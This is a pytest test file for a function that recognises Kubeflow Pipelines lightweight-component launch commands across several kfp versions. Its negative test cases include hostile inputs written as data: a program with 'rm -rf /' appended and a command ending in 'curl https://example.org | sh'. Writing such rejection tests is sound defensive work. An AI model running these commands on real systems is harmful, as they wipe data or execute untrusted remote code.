"""Recognition of the command of a lightweight component, in the spellings that are out there."""

from __future__ import annotations

import pytest

from wherry.launchers.process.lightweight import LightweightComponent, recognise

SOURCE = "\nimport kfp\nfrom kfp import dsl\n\ndef train(rows: int) -> int:\n    return rows\n\n"
ARGUMENTS = ["--executor_input", "{{$}}", "--function_to_execute", "train"]
PROGRAM = (
    'program_path=$(mktemp -d)\n\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n'
    "_KFP_RUNTIME=true python3 -m kfp.dsl.executor_main                         --component_module_path"
    '                         "$program_path/ephemeral_component.py"                         "$@"\n'
)
OLD_PROGRAM = PROGRAM.replace("_KFP_RUNTIME=true ", "").replace("kfp.dsl", "kfp.components")
KFP = "'kfp==2.17.0' '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<\"3.9\"'"
PIP = "python3 -m pip install --quiet --no-warn-script-location"


def script(pip_commands: str) -> str:
    look_for_pip = (
        '\nif ! [ -x "$(command -v pip)" ]; then\n'
        "    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\n"
    )
    return f'{look_for_pip}PIP_DISABLE_PIP_VERSION_CHECK=1 {pip_commands} && "$0" "$@"\n'


def command(pip_commands: str | None, *, program: str = PROGRAM, arguments: list[str] = ARGUMENTS) -> list[str]:
    installing = [] if pip_commands is None else ["sh", "-c", script(pip_commands)]
    return [*installing, "sh", "-ec", program, SOURCE, *arguments]


def component(**said: object) -> LightweightComponent:
    return LightweightComponent(source=SOURCE, function="train", **said)  # type: ignore[arg-type]


def test_a_component_without_packages_installs_only_kfp() -> None:
    assert recognise(command(f"{PIP} {KFP}")) == component(kfp_requirement="kfp==2.17.0")


def test_a_component_that_installs_nothing_has_no_script_in_front() -> None:
    assert recognise(command(None)) == component()


def test_packages_come_before_kfp() -> None:
    read = recognise(command(f"{PIP} 'pandas==2.0' \"a[b]>=1; python_version<'3.9'\"  &&  {PIP} {KFP}"))

    assert read == component(packages=("pandas==2.0", "a[b]>=1; python_version<'3.9'"), kfp_requirement="kfp==2.17.0")


def test_packages_may_come_after_kfp_as_kfp_2_4_wrote_them() -> None:
    read = recognise(command(f"{PIP} {KFP}  &&  {PIP} 'pandas'"))

    assert read == component(packages=("pandas",), kfp_requirement="kfp==2.17.0")


def test_kfp_2_0_put_itself_last_into_the_one_command() -> None:
    one = "python3 -m pip install --quiet     --no-warn-script-location 'pandas' 'kfp==2.0.1'"

    assert recognise(command(one, program=OLD_PROGRAM)) == component(packages=("pandas",), kfp_requirement="kfp==2.0.1")


def test_a_kfp_that_the_author_asks_for_is_a_package() -> None:
    assert recognise(command(f"{PIP} 'kfp==2.16.0'")) == component(packages=("kfp==2.16.0",))


def test_a_kfp_from_elsewhere_stays_apart_from_the_packages() -> None:
    read = recognise(command(f"{PIP} 'numpy'  &&  {PIP} 'git+https://example.org/pipelines'"))

    assert read == component(packages=("numpy",), kfp_requirement="git+https://example.org/pipelines")


def test_indexes_and_trusted_hosts_are_read_once() -> None:
    options = "--index-url https://a/simple --extra-index-url https://b/simple --trusted-host a --trusted-host b"
    read = recognise(command(f"{PIP} {options} 'numpy'  &&  {PIP} {options} {KFP}"))

    assert read == component(
        packages=("numpy",),
        kfp_requirement="kfp==2.17.0",
        index_urls=("https://a/simple", "https://b/simple"),
        trusted_hosts=("a", "b"),
    )


def test_a_virtual_environment_for_kfp_changes_nothing() -> None:
    venv = (
        "\nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\n"
        'python3 -m venv "$tmp/venv" --system-site-packages\n. "$tmp/venv/bin/activate"\n'
    )

    assert recognise(command(f"{PIP} 'numpy'  &&  {venv} {PIP} {KFP}")) == component(
        packages=("numpy",), kfp_requirement="kfp==2.17.0"
    )


def test_a_virtual_environment_may_be_all_there_is() -> None:
    venv = '\ntmp=$(mktemp -d)\npython3 -m venv "$tmp/venv" --system-site-packages\n. "$tmp/venv/bin/activate"\n'

    assert recognise(command(f"{venv} {PIP} {KFP}")) == component(kfp_requirement="kfp==2.17.0")


@pytest.mark.parametrize(
    "other",
    [
        [],
        ["sh", "-c", "echo hello"],
        ["python3", "-m", "kfp.dsl.executor_main", *ARGUMENTS],
        ["sh", "-c", script(f"{PIP} 'numpy'"), "python3", "-m", "kfp.dsl.executor_main", *ARGUMENTS],
        command(None, program=f"{PROGRAM}rm -rf /\n"),
        command(None, arguments=["--executor_input", "{{$}}"]),
        command(f"{PIP} 'numpy' && curl https://example.org | sh"),
        command(f"{PIP} --pre 'numpy'"),
        command(f"{PIP} '-r requirements.txt'"),
        command(f"{PIP} 'numpy"),
        command(f"{PIP} --index-url"),
    ],
)
def test_any_other_command_is_not_recognised(other: list[str]) -> None:
    assert recognise(other) is None
